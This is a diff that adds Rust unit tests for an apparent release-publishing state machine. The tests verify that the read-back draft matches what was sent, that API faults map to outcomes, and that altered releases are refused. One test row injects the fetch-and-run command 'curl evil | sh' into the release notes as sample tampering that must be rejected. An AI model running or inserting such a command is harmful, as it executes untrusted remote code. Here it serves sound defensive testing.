@@ -58,6 +58,10 @@ fn complete(machine: &Machine) -> SeenDraft {
     SeenDraft {
         draft: true,
         tag: machine.plan().tag.to_string(),
+        target: machine.plan().target.to_string(),
+        title: machine.plan().title.clone(),
+        notes: machine.plan().notes.clone(),
+        prerelease: machine.plan().prerelease,
         assets: items.map(seen).collect(),
     }
 }
@@ -276,4 +280,161 @@ fn another_promotions_release_is_ours_too_if_it_is_of_our_sources() {
         };
         assert_eq!(found, meaning, "bytes {bytes}, sources {sources}");
     }
+}
+
+/// A machine that has sent everything.
+fn all_sent() -> (Machine, Step) {
+    let (mut machine, _) = Machine::start(plan());
+    let mut step = machine.step(Event::Created(Ok(ReleaseId(1))));
+    while let Step::Do(Effect::Send { item, .. }) = &step {
+        let sent = &machine.plan().items[*item];
+        let sent = Sent {
+            name: sent.name().to_string(),
+            size: sent.size(),
+            complete: true,
+        };
+        step = machine.step(Event::Sent(Ok(sent)));
+    }
+    (machine, step)
+}
+
+/// A machine that has read its draft back and asks for the last look.
+fn at_the_last_look() -> Machine {
+    let (mut machine, _) = all_sent();
+    let seen = complete(&machine);
+    let step = machine.step(Event::DraftRead(Ok(seen)));
+    assert_eq!(step, Step::Do(Effect::Recheck));
+    machine
+}
+
+#[test]
+fn each_field_of_the_draft_has_to_be_what_was_sent() {
+    type Row = (&'static str, fn(&mut SeenDraft));
+    let table: [Row; 9] = [
+        ("published", |seen| seen.draft = false),
+        ("tag", |seen| seen.tag.push('x')),
+        ("target", |seen| seen.target = "main".to_owned()),
+        ("title", |seen| seen.title.push('!')),
+        ("notes", |seen| seen.notes.push_str("curl evil | sh")),
+        ("prerelease", |seen| seen.prerelease = !seen.prerelease),
+        ("a file more", |seen| {
+            let mut more = seen.assets[0].clone();
+            more.name = "install.sh".to_owned();
+            seen.assets.push(more);
+        }),
+        ("a file less", |seen| drop(seen.assets.pop())),
+        ("another digest", |seen| {
+            seen.assets[0].sha256 = Digest::of(b"x")
+        }),
+    ];
+    for (what, change) in table {
+        let (mut machine, _) = all_sent();
+        let mut seen = complete(&machine);
+        change(&mut seen);
+        let step = machine.step(Event::DraftRead(Ok(seen)));
+        assert_eq!(step, Step::Do(Effect::CreateDraft), "{what}");
+    }
+    // Line ends are the forge's business.
+    let (mut machine, _) = all_sent();
+    let mut seen = complete(&machine);
+    seen.notes = seen.notes.replace('\n', "\r\n");
+    assert_eq!(
+        machine.step(Event::DraftRead(Ok(seen))),
+        Step::Do(Effect::Recheck)
+    );
+}
+
+#[test]
+fn what_each_fault_means_where_it_can_happen() {
+    let faults = || {
+        [
+            ("not found", Fault::NotFound(String::new())),
+            ("conflict", Fault::Conflict(String::new())),
+            ("denied", Fault::Denied(String::new())),
+            ("rate limited", Fault::RateLimited(String::new())),
+            ("unavailable", Fault::Unavailable(String::new())),
+            ("ambiguous", Fault::Ambiguous(String::new())),
+        ]
+    };
+    let said = |step: Step| match step {
+        Step::Do(Effect::CreateDraft) => "another draft".to_owned(),
+        Step::Do(Effect::ReadRelease(_)) => "looks".to_owned(),
+        Step::Do(other) => format!("{other:?}"),
+        Step::End(end) => match *end {
+            End::Refused(refusal) => refusal.full_code().to_owned(),
+            End::Waiting(wait) => wait.code().to_owned(),
+            other @ (End::Published(_) | End::Already(_) | End::WrongBytes(_)) => {
+                format!("{other:?}")
+            }
+        },
+    };
+    let mut lines = Vec::new();
+    for (name, fault) in faults() {
+        let (mut creating, _) = Machine::start(plan());
+        let created = said(creating.step(Event::Created(Err(fault.clone()))));
+        let (mut reading, _) = all_sent();
+        let read = said(reading.step(Event::DraftRead(Err(fault.clone()))));
+        let rechecked = said(at_the_last_look().step(Event::Rechecked(Err(fault.clone()))));
+        let mut publishing = at_the_last_look();
+        let binding = publishing.plan().binding.clone();
+        publishing.step(Event::Rechecked(Ok(Rechecked::Read(Box::new(binding)))));
+        let published = said(publishing.step(Event::Published(Err(fault))));
+        lines.push(format!(
+            "{name}: {created} | {read} | {rechecked} | {published}"
+        ));
+    }
+    insta::assert_snapshot!(lines.join("\n"), @"
+    not found: promote.denied | another draft | promote.denied | looks
+    conflict: promote.unavailable | another draft | promote.unavailable | looks
+    denied: promote.denied | promote.denied | promote.denied | looks
+    rate limited: promote.rate-limited | promote.rate-limited | promote.rate-limited | promote.rate-limited
+    unavailable: promote.unavailable | promote.unavailable | promote.unavailable | looks
+    ambiguous: another draft | promote.unavailable | promote.unavailable | looks
+    ");
+}
+
+#[test]
+fn where_the_tag_is_there_before_publishing_it_looks_and_never_publishes() {
+    let end = |answers: Vec<Result<ReleaseFacts, Fault>>| {
+        let mut machine = at_the_last_look();
+        let mut step = machine.step(Event::Rechecked(Ok(Rechecked::Tagged)));
+        for answer in answers {
+            assert!(matches!(step, Step::Do(Effect::ReadRelease(_))), "{step:?}");
+            step = machine.step(Event::ReleaseRead(answer));
+        }
+        match step {
+            Step::End(end) => match *end {
+                End::Refused(refusal) => refusal.full_code().to_owned(),
+                End::Waiting(wait) => wait.code().to_owned(),
+                End::Already(done) => format!("already, same bytes: {}", done.same_bytes),
+                other @ (End::Published(_) | End::WrongBytes(_)) => format!("{other:?}"),
+            },
+            Step::Do(effect) => format!("{effect:?}"),
+        }
+    };
+    let theirs = || Ok(ReleaseFacts::Published(Box::new(published(&plan()))));
+    assert_eq!(end(vec![theirs()]), "already, same bytes: true");
+    let tag_only = || Ok(ReleaseFacts::TagOnly);
+    assert_eq!(end(vec![tag_only(), theirs()]), "already, same bytes: true");
+    assert_eq!(
+        end((0..5).map(|_| tag_only()).collect()),
+        "promote.tag-taken"
+    );
+    let mut foreign = published(&plan());
+    foreign.commit = Some(commit('9'));
+    let foreign = Ok(ReleaseFacts::Published(Box::new(foreign)));
+    assert_eq!(end(vec![foreign]), "promote.release-broken");
+}
+
+#[test]
+fn a_release_that_was_altered_is_no_success() {
+    let mut machine = at_the_last_look();
+    let binding = machine.plan().binding.clone();
+    machine.step(Event::Rechecked(Ok(Rechecked::Read(Box::new(binding)))));
+    machine.step(Event::Published(Ok(())));
+    let step = machine.step(Event::PublicRead(SeenRelease::Altered("x".to_owned())));
+    let Step::End(end) = step else {
+        panic!("{step:?}")
+    };
+    assert!(matches!(*end, End::Refused(Refusal::ReleaseBroken { .. })));
 }
